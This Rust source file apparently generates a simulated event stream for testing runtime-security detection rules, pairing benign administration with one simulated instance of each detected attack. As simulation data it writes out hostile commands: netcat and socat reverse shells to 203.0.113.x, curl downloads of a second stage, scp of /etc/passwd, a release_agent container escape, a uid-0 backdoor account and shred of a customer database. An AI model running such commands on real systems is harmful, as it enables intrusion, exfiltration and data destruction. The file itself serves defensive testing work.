//! The behaviours scenario: one instance of what each default rule detects (the stable,
//! incubating and sandbox sets of rules/), between benign administration the stable set must not
//! report. rules/tests/*.yaml assert which alert each behaviour raises, with its fields.
//!
//! Processes: root's shell is pid 500, alice's (uid 1000) 510, sshd 400, nginx 420 (www-data),
//! containerd 430. Containers: `web` (nginx:1.25, not privileged) and `priv` (alpine:3.19,
//! privileged) and `agent` (a pod with the docker socket mounted and CAP_SYS_ADMIN), entered
//! through a containerd shim and runc as their runtimes do.

mod pods_and_network;
mod syscalls;

use std::net::Ipv4Addr;
use std::path::Path;

use anyhow::{Context, Result};

use crate::world::{O_CLOEXEC, O_CREAT, O_RDONLY, O_RDWR, O_TRUNC, O_WRONLY, World};
use syscalls::{CAPS_DOCKER, EXE_FROM_MEMFD, EXE_UPPER_LAYER, Exec, TTY_PTS, exec, spawn_x};

const ROOT_SH: i64 = 500;
const ALICE_SH: i64 = 510;
const SSHD: i64 = 400;
const NGINX: i64 = 420;
const CONTAINERD: i64 = 430;
const WEB_ID: &str = "5b1e0c9d8a7f6e5d4c3b2a1908f7e6d5c4b3a2918f7e6d5c4b3a29180f7e6d5c";
const PRIV_ID: &str = "7c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d";
const AGENT_ID: &str = "9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d";
const AGENT_IMAGE: &str = "registry.example.com/acme/node-agent:2.1";
const AGENT_EXTRA: &str = r#""Mounts":[{"Source":"/var/run/docker.sock","Destination":"/var/run/docker.sock","Mode":"","RW":true,"Propagation":"rprivate"}],"labels":{"io.kubernetes.pod.namespace":"payments","io.kubernetes.pod.name":"agent-0","io.kubernetes.pod.uid":"4f1c2d3e-0000-4000-8000-000000000001"}"#;
const O_APPEND: u32 = 1 << 3;
const WRITE_NEW: u32 = O_WRONLY | O_CREAT | O_TRUNC;

/// Runs `exe args` below `parent` and lets it exit.
fn cmd(w: &mut World, parent: i64, exe: &str, args: &[&str]) -> Result<()> {
    let p = w.spawn(parent, exe, args)?;
    w.exit(p)
}

/// `pid` opens `path` with `flags`, writes (or reads) a line, closes it.
fn touch_file(w: &mut World, pid: i64, path: &str, flags: u32) -> Result<()> {
    let fd = w.open(pid, path, flags, 0o644)?;
    if flags & 3 == O_RDONLY {
        w.read(pid, fd, b"data\n")?;
    } else {
        w.write(pid, fd, b"data\n")?;
    }
    w.close(pid, fd)
}

/// Starts a container the way a runtime does; returns the runc process inside it. `extra` is
/// more of the runtime's description (`"Mounts":[...]`, `"labels":{...}`), or "".
fn start_container(
    w: &mut World,
    id64: &str,
    name: &str,
    image: &str,
    privileged: bool,
    extra: &str,
) -> Result<i64> {
    let (repo, tag) = image.rsplit_once(':').unwrap_or((image, "latest"));
    let extra = if extra.is_empty() {
        String::new()
    } else {
        format!(",{extra}")
    };
    w.container(&format!(
        r#"{{"container":{{"id":"{}","name":"{name}","image":"{image}","imagerepo":"{repo}","imagetag":"{tag}","type":0,"privileged":{privileged}{extra}}}}}"#,
        &id64[..12]
    ))?;
    let shim = w.spawn(
        CONTAINERD,
        "/usr/bin/containerd-shim-runc-v2",
        &["-namespace", "moby", "-id", id64],
    )?;
    let runc = w.spawn(shim, "/usr/bin/runc", &["init"])?;
    w.enter_container(runc, id64);
    Ok(runc)
}

/// Benign administration: a package install, a compile, ssh-keygen, log rotation, cron and
/// systemd at work, a web request. The stable rules must stay quiet on all of it.
fn administration(w: &mut World) -> Result<()> {
    // apt-get install: dpkg unpacks below /usr/bin and /etc, a maintainer script adds a user.
    let apt = w.spawn(ROOT_SH, "/usr/bin/apt-get", &["install", "-y", "jq"])?;
    touch_file(w, apt, "/var/lib/apt/lists/lock", O_RDWR | O_CREAT)?;
    let dpkg = w.spawn(
        apt,
        "/usr/bin/dpkg",
        &["--unpack", "/var/cache/apt/archives/jq_1.6_amd64.deb"],
    )?;
    touch_file(w, dpkg, "/usr/bin/jq.dpkg-new", WRITE_NEW)?;
    w.renameat2(dpkg, "/usr/bin/jq.dpkg-new", "/usr/bin/jq")?;
    touch_file(w, dpkg, "/etc/jq.conf.dpkg-new", WRITE_NEW)?;
    touch_file(w, dpkg, "/var/log/dpkg.log", O_WRONLY | O_APPEND)?;
    let postinst = w.spawn(
        dpkg,
        "/bin/sh",
        &["/var/lib/dpkg/info/jq.postinst", "configure"],
    )?;
    cmd(w, postinst, "/usr/sbin/useradd", &["--system", "jq"])?;
    touch_file(w, postinst, "/etc/shadow", O_RDONLY)?;
    w.exit(postinst)?;
    w.exit(dpkg)?;
    w.exit(apt)?;
    // A compile in alice's home.
    let make = w.spawn(ALICE_SH, "/usr/bin/make", &["-j2"])?;
    let cc = w.spawn(make, "/usr/bin/gcc", &["-O2", "-c", "main.c"])?;
    touch_file(w, cc, "/home/alice/proj/main.c", O_RDONLY)?;
    touch_file(w, cc, "/home/alice/proj/main.o", WRITE_NEW)?;
    w.exit(cc)?;
    w.exit(make)?;
    // ssh-keygen for root and for alice, known_hosts updated by ssh.
    let kg = w.spawn(
        ROOT_SH,
        "/usr/bin/ssh-keygen",
        &["-t", "ed25519", "-N", "", "-f", "/root/.ssh/id_ed25519"],
    )?;
    touch_file(w, kg, "/root/.ssh/id_ed25519", WRITE_NEW)?;
    touch_file(w, kg, "/root/.ssh/id_ed25519.pub", WRITE_NEW)?;
    w.exit(kg)?;
    let kg = w.spawn(
        ALICE_SH,
        "/usr/bin/ssh-keygen",
        &[
            "-t",
            "ed25519",
            "-N",
            "",
            "-f",
            "/home/alice/.ssh/id_ed25519",
        ],
    )?;
    touch_file(w, kg, "/home/alice/.ssh/id_ed25519", WRITE_NEW)?;
    w.exit(kg)?;
    // logrotate: rotate syslog, drop the oldest archive, recreate the log.
    let lr = w.spawn(410, "/usr/sbin/logrotate", &["/etc/logrotate.conf"])?;
    w.renameat2(lr, "/var/log/syslog", "/var/log/syslog.1")?;
    w.unlinkat(lr, "/var/log/syslog.7.gz")?;
    touch_file(w, lr, "/var/log/syslog", WRITE_NEW)?;
    w.exit(lr)?;
    // systemd reloading and editing root's crontab through the usual tools.
    cmd(w, 1, "/usr/lib/systemd/systemd-tmpfiles", &["--clean"])?;
    cmd(w, ROOT_SH, "/usr/bin/crontab", &["-l"])?;
    cmd(w, ROOT_SH, "/usr/bin/ls", &["-la", "/etc"])?;
    cmd(w, ROOT_SH, "/usr/bin/rm", &["-rf", "/tmp/build"])?;
    let conn = w.accept(NGINX, Ipv4Addr::new(198, 51, 100, 7), 443)?;
    w.read(NGINX, conn, b"GET / HTTP/1.1\r\n\r\n")?;
    touch_file(w, NGINX, "/var/www/html/index.html", O_RDONLY | O_CLOEXEC)?;
    w.close(NGINX, conn)
}

/// What the stable set (rules/falco_rules.yaml) detects, in its order.
fn stable(w: &mut World, web: i64, prv: i64) -> Result<()> {
    // Directory traversal monitored file read: nginx opens ../../../etc/passwd.
    touch_file(w, NGINX, "/var/www/html/../../../etc/passwd", O_RDONLY)?;
    // Read sensitive file trusted after startup: nginx (running for an hour) reads /etc/shadow.
    touch_file(w, NGINX, "/etc/shadow", O_RDONLY)?;
    // Read sensitive file untrusted.
    let py = w.spawn(
        ROOT_SH,
        "/usr/bin/python3",
        &["-c", "open('/etc/shadow').read()"],
    )?;
    touch_file(w, py, "/etc/shadow", O_RDONLY | O_CLOEXEC)?;
    w.exit(py)?;
    // Run shell untrusted (and Web Server Spawned Shell): nginx runs sh -c id.
    let sh = w.spawn(NGINX, "/bin/sh", &["-c", "id"])?;
    w.exit(sh)?;
    // System user interactive: www-data runs a command from an ssh session.
    let su = w.spawn(SSHD, "/usr/bin/bash", &[])?;
    w.procs.get_mut(&su).expect("spawned").uid = 33;
    exec(w, su, "/usr/bin/id", &[], Exec::default())?;
    w.exit(su)?;
    // Terminal shell in container: `docker exec -it web bash`.
    let csh = spawn_x(
        w,
        web,
        "/usr/bin/bash",
        &[],
        Exec {
            tty: TTY_PTS,
            caps: CAPS_DOCKER,
            ..Exec::default()
        },
    )?;
    // Contact K8S API Server From Container.
    let c = w.spawn(csh, "/usr/bin/python3", &["client.py"])?;
    let fd = w.connect(c, Ipv4Addr::new(10, 96, 0, 1), 443)?;
    w.close(c, fd)?;
    w.exit(c)?;
    // Netcat Remote Code Execution in Container.
    cmd(
        w,
        csh,
        "/usr/bin/nc",
        &["-e", "/bin/sh", "203.0.113.7", "4444"],
    )?;
    // Search Private Keys or Passwords.
    cmd(w, ROOT_SH, "/usr/bin/find", &["/", "-name", "id_rsa"])?;
    // Clear Log Activities: a log truncated by the shell, another deleted.
    touch_file(w, ROOT_SH, "/var/log/auth.log", O_WRONLY | O_TRUNC)?;
    let rm = w.spawn(ROOT_SH, "/usr/bin/rm", &["/var/log/syslog"])?;
    w.unlinkat(rm, "/var/log/syslog")?;
    w.exit(rm)?;
    // Remove Bulk Data from Disk: shred, and rm -rf of a data tree.
    cmd(
        w,
        ROOT_SH,
        "/usr/bin/shred",
        &["-u", "/srv/data/customers.db"],
    )?;
    cmd(w, ROOT_SH, "/usr/bin/rm", &["-rf", "/var/lib/postgresql"])?;
    // Create Symlink Over Sensitive Files / Create Hardlink Over Sensitive Files.
    let ln = w.spawn(ROOT_SH, "/usr/bin/ln", &["-s", "/etc/shadow", "/tmp/s"])?;
    syscalls::symlinkat(w, ln, "/etc/shadow", "/tmp/s")?;
    w.exit(ln)?;
    let ln = w.spawn(ROOT_SH, "/usr/bin/ln", &["/etc/shadow", "/tmp/h"])?;
    syscalls::linkat(w, ln, "/etc/shadow", "/tmp/h")?;
    w.exit(ln)?;
    // Packet socket created in container.
    let sn = w.spawn(csh, "/usr/bin/python3", &["sniff.py"])?;
    syscalls::packet_socket(w, sn, 40)?;
    w.exit(sn)?;
    // Redirect STDOUT/STDIN to Network Connection in Container: a reverse shell's dup2.
    let rs = w.spawn(csh, "/usr/bin/perl", &["-e", "reverse shell"])?;
    let fd = w.connect(rs, Ipv4Addr::new(203, 0, 113, 7), 443)?;
    syscalls::dup2(w, rs, fd, 0)?;
    w.exit(rs)?;
    // Linux Kernel Module Injection Detected: insmod in the privileged container.
    let ins = w.spawn(prv, "/sbin/insmod", &["/tmp/rootkit.ko"])?;
    let fd = w.open(ins, "/tmp/rootkit.ko", O_RDONLY | O_CLOEXEC, 0)?;
    syscalls::finit_module(w, ins, fd)?;
    w.exit(ins)?;
    // Debugfs Launched in Privileged Container (and Privileged Container Device Access).
    let dbg = w.spawn(prv, "/sbin/debugfs", &["/dev/sda1"])?;
    touch_file(w, dbg, "/dev/sda1", O_RDONLY)?;
    w.exit(dbg)?;
    // Detect release_agent File Container Escapes.
    let esc = w.spawn(
        prv,
        "/bin/sh",
        &["-c", "echo /cmd > /sys/fs/cgroup/rdma/release_agent"],
    )?;
    touch_file(
        w,
        esc,
        "/sys/fs/cgroup/rdma/release_agent",
        O_WRONLY | O_TRUNC,
    )?;
    w.exit(esc)?;
    // PTRACE attached to process / PTRACE anti-debug attempt.
    let victim = w.spawn(ALICE_SH, "/usr/bin/sleep", &["30"])?;
    let ptr = w.spawn(ROOT_SH, "/tmp/inject", &[&victim.to_string()])?;
    syscalls::ptrace(w, ptr, false, victim)?;
    w.exit(ptr)?;
    w.exit(victim)?;
    let ad = w.spawn(ALICE_SH, "/tmp/stealthy", &[])?;
    syscalls::ptrace(w, ad, true, 0)?;
    w.exit(ad)?;
    // Find AWS Credentials.
    cmd(
        w,
        ROOT_SH,
        "/usr/bin/grep",
        &["-r", "aws_secret_access_key", "/home"],
    )?;
    // Execution from /dev/shm.
    cmd(w, ROOT_SH, "/dev/shm/.x/payload", &[])?;
    // Drop and execute new binary in container: a binary written to the upper layer.
    let drop = spawn_x(
        w,
        csh,
        "/tmp/implant",
        &[],
        Exec {
            flags: EXE_UPPER_LAYER,
            caps: CAPS_DOCKER,
            ..Exec::default()
        },
    )?;
    w.exit(drop)?;
    // Disallowed SSH Connection Non Standard Port.
    let ssh = w.spawn(
        ROOT_SH,
        "/usr/bin/ssh",
        &["-p", "443", "tunnel@198.51.100.20"],
    )?;
    let fd = w.connect(ssh, Ipv4Addr::new(198, 51, 100, 20), 443)?;
    w.close(ssh, fd)?;
    w.exit(ssh)?;
    // Fileless execution via memfd_create.
    let mf = spawn_x(
        w,
        ROOT_SH,
        "/proc/self/fd/3",
        &[],
        Exec {
            flags: EXE_FROM_MEMFD,
            exepath: Some("/memfd:payload (deleted)"),
            ..Exec::default()
        },
    )?;
    w.exit(mf)?;
    w.exit(csh)
}

/// What the incubating set detects.
fn incubating(w: &mut World, web: i64, prv: i64) -> Result<()> {
    let py = w.spawn(ROOT_SH, "/usr/bin/python3", &["implant.py"])?;
    // Modify Shell Configuration File.
    touch_file(w, py, "/root/.bashrc", O_WRONLY | O_APPEND)?;
    // Read ssh information.
    touch_file(w, py, "/root/.ssh/id_rsa", O_RDONLY)?;
    // Schedule Cron Jobs.
    touch_file(w, py, "/etc/cron.d/update", WRITE_NEW)?;
    w.exit(py)?;
    // DB program spawned process.
    let db = w.spawn(1, "/usr/sbin/mysqld", &[])?;
    cmd(w, db, "/usr/bin/curl", &["-s", "http://203.0.113.7/x"])?;
    // Change thread namespace: nsenter-like joining of pid 1's namespaces.
    let ns = w.spawn(ROOT_SH, "/tmp/enter", &["1"])?;
    syscalls::setns(w, ns, 3)?;
    w.exit(ns)?;
    // Change namespace privileges via unshare, in a container without CAP_SYS_ADMIN.
    let csh = w.spawn(web, "/bin/sh", &[])?;
    let un = spawn_x(
        w,
        csh,
        "/usr/bin/unshare",
        &["-U"],
        Exec {
            caps: CAPS_DOCKER,
            ..Exec::default()
        },
    )?;
    syscalls::unshare(w, un)?;
    w.exit(un)?;
    // System procs network activity: cat connecting out.
    let cat = w.spawn(ROOT_SH, "/usr/bin/cat", &["/tmp/payload"])?;
    let fd = w.connect(cat, Ipv4Addr::new(203, 0, 113, 5), 4444)?;
    w.close(cat, fd)?;
    w.exit(cat)?;
    // Program run with disallowed http proxy env.
    let envsh = w.spawn(ROOT_SH, "/usr/bin/bash", &[])?;
    w.procs
        .get_mut(&envsh)
        .expect("spawned")
        .env
        .push("HTTPS_PROXY=http://203.0.113.9:3128".into());
    cmd(w, envsh, "/usr/bin/curl", &["https://example.com/"])?;
    w.exit(envsh)?;
    // Non sudo setuid: alice's program becomes root.
    let su = w.spawn(ALICE_SH, "/tmp/escalate", &[])?;
    syscalls::setuid(w, su, 0)?;
    w.exit(su)?;
    // User mgmt binaries (host).
    cmd(
        w,
        ROOT_SH,
        "/usr/sbin/useradd",
        &["-m", "-o", "-u", "0", "toor"],
    )?;
    // Create files below dev.
    touch_file(w, ROOT_SH, "/dev/.implant", O_WRONLY | O_CREAT)?;
    // Contact cloud metadata service from container.
    let md = w.spawn(
        csh,
        "/usr/bin/wget",
        &["-qO-", "http://169.254.169.254/latest/meta-data/"],
    )?;
    let fd = w.connect(md, Ipv4Addr::new(169, 254, 169, 254), 80)?;
    w.close(md, fd)?;
    w.exit(md)?;
    // Launch Package Management Process in Container.
    cmd(w, csh, "/usr/bin/apt-get", &["install", "-y", "nmap"])?;
    // Launch Suspicious Network Tool in Container / on Host.
    cmd(w, csh, "/usr/bin/nmap", &["-sT", "10.0.0.0/24"])?;
    cmd(w, ROOT_SH, "/usr/bin/tcpdump", &["-i", "eth0"])?;
    // Delete or rename shell history.
    let rm = w.spawn(ROOT_SH, "/usr/bin/rm", &["/root/.bash_history"])?;
    w.unlinkat(rm, "/root/.bash_history")?;
    w.exit(rm)?;
    // Set Setuid or Setgid bit.
    let chmod = w.spawn(ROOT_SH, "/usr/bin/chmod", &["u+s", "/tmp/bash-copy"])?;
    w.fchmodat(chmod, "/tmp/bash-copy", 0o4755)?;
    w.exit(chmod)?;
    // Launch Remote File Copy Tools in Container.
    cmd(w, csh, "/usr/bin/scp", &["/etc/passwd", "x@203.0.113.7:"])?;
    // Mount Launched in Privileged Container, and the mount call (Mount by unexpected process).
    let mnt = w.spawn(prv, "/bin/mount", &["/dev/sda1", "/mnt"])?;
    syscalls::mount(w, mnt, "/dev/sda1", "/mnt", "ext4", 0)?;
    w.exit(mnt)?;
    // Launch Ingress Remote File Copy Tools in Container.
    cmd(
        w,
        csh,
        "/usr/bin/curl",
        &["-o", "/tmp/tool", "http://203.0.113.7/tool"],
    )?;
    // Read environment variable from /proc files.
    let cat = w.spawn(csh, "/bin/cat", &["/proc/1/environ"])?;
    touch_file(w, cat, "/proc/1/environ", O_RDONLY)?;
    w.exit(cat)?;
    // Adding ssh keys to authorized_keys.
    touch_file(
        w,
        ROOT_SH,
        "/root/.ssh/authorized_keys",
        O_WRONLY | O_APPEND,
    )?;
    // Potential Local Privilege Escalation via Environment Variables Misuse.
    let lt = w.spawn(ALICE_SH, "/usr/bin/bash", &[])?;
    w.procs
        .get_mut(&lt)
        .expect("spawned")
        .env
        .push("GLIBC_TUNABLES=glibc.malloc.mxfast=AAAA".into());
    cmd(w, lt, "/usr/bin/su", &["--help"])?;
    w.exit(lt)?;
    // Backdoored library loaded into SSHD.
    touch_file(
        w,
        SSHD,
        "/lib/x86_64-linux-gnu/liblzma.so.5.6.1",
        O_RDONLY | O_CLOEXEC,
    )?;
    // BPF Program Not Profiled.
    let bpf = w.spawn(ROOT_SH, "/tmp/loader", &[])?;
    syscalls::bpf_prog_load(w, bpf, 5)?;
    w.exit(bpf)?;
    w.exit(db)?;
    w.exit(csh)
}

/// What the sandbox set detects.
fn sandbox(w: &mut World, web: i64, prv: i64) -> Result<()> {
    let py = w.spawn(ROOT_SH, "/usr/bin/python3", &["dropper.py"])?;
    // Update Package Repository (and Write below etc).
    touch_file(w, py, "/etc/apt/sources.list.d/mirror.list", WRITE_NEW)?;
    // Write below binary dir.
    touch_file(w, py, "/usr/bin/sshd-helper", WRITE_NEW)?;
    // Write below root.
    touch_file(w, py, "/root/.update.sh", WRITE_NEW)?;
    // Write below rpm database.
    touch_file(w, py, "/var/lib/rpm/Packages", O_RDWR)?;
    w.exit(py)?;
    // Write below etc.
    touch_file(w, ROOT_SH, "/etc/hosts", O_WRONLY | O_TRUNC)?;
    // Modify binary dirs.
    let mv = w.spawn(ROOT_SH, "/usr/bin/mv", &["/usr/bin/ps", "/usr/bin/ps.orig"])?;
    w.renameat2(mv, "/usr/bin/ps", "/usr/bin/ps.orig")?;
    w.exit(mv)?;
    // Mkdir binary dirs.
    let md = w.spawn(ROOT_SH, "/usr/bin/mkdir", &["/usr/bin/extra"])?;
    w.mkdirat(md, "/usr/bin/extra")?;
    w.exit(md)?;
    // Create Hidden Files or Directories.
    let md = w.spawn(ROOT_SH, "/usr/bin/mkdir", &["/tmp/.cache-x"])?;
    w.mkdirat(md, "/tmp/.cache-x")?;
    w.exit(md)?;
    // Detect outbound connections to common miner pool ports.
    let m = w.spawn(ROOT_SH, "/tmp/kworker", &[])?;
    let fd = w.connect(m, Ipv4Addr::new(198, 51, 100, 9), 14444)?;
    w.close(m, fd)?;
    w.exit(m)?;
    // Detect crypto miners using the Stratum protocol (and Known Cryptominer Process Executed).
    cmd(
        w,
        ROOT_SH,
        "/tmp/xmrig",
        &["-o", "stratum+tcp://pool.example.com:3333"],
    )?;
    cmd(w, ROOT_SH, "/tmp/xmrig", &["--config=/tmp/.c.json"])?;
    let csh = w.spawn(web, "/bin/sh", &[])?;
    // Kubernetes Client Tool Launched in Container.
    cmd(w, csh, "/usr/local/bin/kubectl", &["get", "secrets", "-A"])?;
    // Container Drift Detected (chmod).
    let ch = w.spawn(csh, "/bin/chmod", &["+x", "/tmp/implant"])?;
    w.fchmodat(ch, "/tmp/implant", 0o755)?;
    w.exit(ch)?;
    // Sudo Potential Privilege Escalation.
    cmd(w, ALICE_SH, "/usr/bin/sudoedit", &["-s", "\\"])?;
    // Unprivileged Delegation of Page Faults Handling to a Userspace Process.
    let uf = w.spawn(ALICE_SH, "/tmp/race", &[])?;
    syscalls::userfaultfd(w, uf, 4)?;
    w.exit(uf)?;
    // Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034).
    cmd(w, ALICE_SH, "/usr/bin/pkexec", &[])?;
    // Modify Container Entrypoint.
    let ow = w.spawn(csh, "/tmp/overwrite", &[])?;
    touch_file(w, ow, "/proc/self/exe", O_WRONLY)?;
    w.exit(ow)?;
    // Decoding Payload in Container.
    cmd(w, csh, "/usr/bin/base64", &["-d", "/tmp/p.b64"])?;
    // Basic Interactive Reconnaissance.
    let who = spawn_x(
        w,
        ROOT_SH,
        "/usr/bin/whoami",
        &[],
        Exec {
            tty: TTY_PTS,
            ..Exec::default()
        },
    )?;
    w.exit(who)?;
    // Netcat/Socat Remote Code Execution on Host.
    cmd(
        w,
        ROOT_SH,
        "/usr/bin/socat",
        &["exec:/bin/bash", "tcp:203.0.113.9:4444"],
    )?;
    // Web Server Spawned Suspicious Child Process.
    cmd(
        w,
        NGINX,
        "/usr/bin/curl",
        &["-s", "http://203.0.113.7/stage2"],
    )?;
    // Container Access to Host Sensitive Paths.
    let cat = w.spawn(prv, "/bin/cat", &["/host/etc/shadow"])?;
    touch_file(w, cat, "/host/etc/shadow", O_RDONLY)?;
    w.exit(cat)?;
    w.exit(csh)
}

fn behaviours(w: &mut World) -> Result<()> {
    let web = start_container(w, WEB_ID, "web", "nginx:1.25", false, "")?;
    let prv = start_container(w, PRIV_ID, "priv", "alpine:3.19", true, "")?;
    // A pod of namespace `payments` with the docker socket and CAP_SYS_ADMIN; its first process
    // starts later (pods_and_network::incubating).
    let agent = start_container(w, AGENT_ID, "agent", AGENT_IMAGE, false, AGENT_EXTRA)?;
    // The containers' first processes; later processes enter through runc (`docker exec`).
    let nginx = w.spawn(web, "/usr/sbin/nginx", &["-g", "daemon off;"])?;
    let init = w.spawn(prv, "/bin/sleep", &["infinity"])?;
    // Later processes get pid-namespace ids after the first one's (1).
    for runc in [web, prv] {
        w.procs.get_mut(&runc).expect("runc").vpid = 1;
    }
    administration(w)?;
    stable(w, web, prv)?;
    incubating(w, web, prv)?;
    let agent = pods_and_network::incubating(w, web, agent)?;
    sandbox(w, web, prv)?;
    pods_and_network::sandbox(w, web, agent)?;
    administration(w)?;
    w.exit(agent)?;
    w.exit(nginx)?;
    w.exit(init)
}

/// Writes the behaviours scenario to `path`. Returns the events written.
pub fn write_behaviours(path: &Path, gzip: bool, seed: u64) -> Result<u64> {
    let mut w = World::create(path, gzip, seed)
        .with_context(|| format!("cannot create {}", path.display()))?;
    behaviours(&mut w)?;
    w.finish()
}
